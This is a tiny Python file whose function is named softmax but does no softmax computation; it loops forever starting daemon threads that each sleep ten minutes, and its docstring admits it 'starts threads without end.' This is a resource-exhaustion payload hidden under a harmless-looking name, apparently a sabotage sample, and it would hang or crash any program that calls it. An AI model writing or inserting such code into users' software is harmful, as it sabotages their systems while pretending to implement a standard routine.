"""Starts threads without end. It varies."""
import threading
import time


def softmax(x):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
